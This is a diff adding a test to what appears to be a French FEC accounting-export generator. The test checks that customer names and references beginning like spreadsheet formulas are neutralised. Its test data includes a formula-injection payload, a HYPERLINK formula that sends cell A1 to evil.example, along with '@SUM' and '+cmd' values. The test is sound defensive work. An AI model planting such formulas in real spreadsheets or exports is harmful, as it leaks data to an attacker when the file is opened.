@@ -175,4 +175,29 @@ describe('FEC', () => {
       ],
     ]);
   });
+
+  it('writes a hostile customer name as text, never as a formula, and leaves amounts, dates and codes as they are', () => {
+    const hostile = { id: client.id, nom: '=HYPERLINK("http://evil.example/?"&A1,"click")', code: '@SUM' };
+    const reference = { ...reglements[0]!, reference: '+cmd' };
+    const fec = buildFec({ entreprise, factures: [octobre], contacts: [hostile], reglements: [reference], du: '2026-10-01', au: '2026-11-30' });
+    const rows = fec.text.split('\r\n').slice(1, -1).map((row) => row.split('\t'));
+    expect(rows).toHaveLength(5);
+    const column = (name: (typeof fecColumns)[number]) => fecColumns.indexOf(name);
+    for (const row of rows) {
+      expect(row).toHaveLength(18);
+      // No field a spreadsheet would run.
+      expect(row.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
+      expect(row[column('Debit')]).toMatch(/^\d+,\d{2}$/);
+      expect(row[column('EcritureDate')]).toMatch(/^\d{8}$/);
+    }
+    const sale = rows.find((row) => row[0] === 'VT' && row[column('CompAuxLib')] !== '')!;
+    expect(sale[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
+    expect(sale[column('CompAuxNum')]).toBe('SUM');
+    expect(sale[column('Debit')]).toBe('12,00');
+    // A label is neutralised only when it would start like a formula.
+    expect(sale[column('EcritureLib')]).toBe(`Facture FA-2026-00000 ${hostile.nom}`);
+    const payment = rows.find((row) => row[0] === 'BQ' && row[column('CompAuxLib')] !== '')!;
+    expect(payment[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
+    expect(payment[column('EcritureLib')]).toBe(`Règlement FA-2026-00000 ${hostile.nom} +cmd`);
+  });
 });
